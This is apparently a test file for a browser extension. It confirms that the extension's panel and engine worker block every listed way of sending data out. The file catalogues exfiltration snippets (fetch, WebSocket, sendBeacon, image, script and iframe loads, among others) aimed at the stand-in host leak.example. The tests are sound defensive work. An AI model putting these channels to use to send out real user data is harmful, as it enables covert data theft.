import { answerIn, expect, openWithModel, test } from "./fixtures.ts";
import { markedLine } from "./made-pages.ts";

/** Ways in which code in a page or a worker could send something, as code that says how it ended. */
const waysOut: Record<string, string> = {
  fetch: `fetch("http://leak.example/?fetch").then(() => "sent", () => "refused")`,
  "fetch of the hub": `fetch("https://huggingface.co/leak").then(() => "sent", () => "refused")`,
  XMLHttpRequest: `new Promise((end) => { const x = new XMLHttpRequest(); x.onload = () => end("sent"); x.onerror = () => end("refused"); x.open("GET", "http://leak.example/?xhr"); x.send(); })`,
  WebSocket: `new Promise((end) => { const s = new WebSocket("ws://leak.example/?ws"); s.onopen = () => end("sent"); s.onerror = () => end("refused"); })`,
  EventSource: `new Promise((end) => { const s = new EventSource("http://leak.example/?es"); s.onopen = () => end("sent"); s.onerror = () => end("refused"); })`,
  WebTransport: `new WebTransport("https://leak.example:1/").ready.then(() => "sent", () => "refused")`,
  sendBeacon: `navigator.sendBeacon("http://leak.example/?beacon", "x") ? "queued" : "refused"`,
  importScripts: `importScripts("http://leak.example/?script") ?? "sent"`,
  "remote import": `import("http://leak.example/module.js").then(() => "sent", () => "refused")`,
};

/** Ways that need a page. The request itself is what the recording proxy would see. */
const waysOutOfPages: Record<string, string> = {
  picture: `new Promise((end) => { const i = new Image(); i.onload = () => end("sent"); i.onerror = () => end("refused"); i.src = "http://leak.example/?img"; })`,
  script: `new Promise((end) => { const s = document.createElement("script"); s.onload = () => end("sent"); s.onerror = () => end("refused"); s.src = "http://leak.example/s.js"; document.head.append(s); })`,
  style: `new Promise((end) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = () => end("sent"); l.onerror = () => end("refused"); l.href = "http://leak.example/s.css"; document.head.append(l); })`,
  frame: `new Promise((end) => { const f = document.createElement("iframe"); document.addEventListener("securitypolicyviolation", () => end("refused")); f.src = "http://leak.example/f"; document.body.append(f); })`,
};

test("the panel, where text is shown, has no way out", async ({ sotto, network }) => {
  const { panel } = await openWithModel(sotto, "http://news.example/marked");
  await expect(answerIn(panel)).toHaveText(markedLine);
  for (const [name, code] of Object.entries({ ...waysOut, ...waysOutOfPages })) {
    if (name === "importScripts") continue; // which pages do not have
    expect(await panel.evaluate(attempt(code)), name).not.toBe("sent");
  }
  expect(network.requests().filter((url) => url.includes("leak"))).toEqual([]);
});

test("the engine worker, where text is computed on, has no way out", async ({ sotto, network }) => {
  const { panel } = await openWithModel(sotto, "http://news.example/marked");
  await expect(answerIn(panel)).toHaveText(markedLine);
  const worker = await sotto.engineWorker();
  for (const [name, code] of Object.entries(waysOut))
    expect(await worker.evaluate(attempt(code)), name).not.toBe("sent");
  expect(await worker.evaluate("typeof RTCPeerConnection"), "WebRTC").toBe("undefined");
  worker.detach();
  expect(network.requests().filter((url) => url.includes("leak"))).toEqual([]);
});

test("the engine worker still reads its own packaged files", async ({ sotto }) => {
  const { panel } = await openWithModel(sotto, "http://news.example/marked");
  await expect(answerIn(panel)).toHaveText(markedLine);
  const worker = await sotto.engineWorker();
  expect(await worker.evaluate(`fetch("/manifest.json").then(({ ok }) => ok)`)).toBe(true);
  worker.detach();
});

/** Code that never throws: what throws at once was refused. */
function attempt(code: string): string {
  return `(async () => { try { return await (${code}); } catch { return "refused"; } })()`;
}
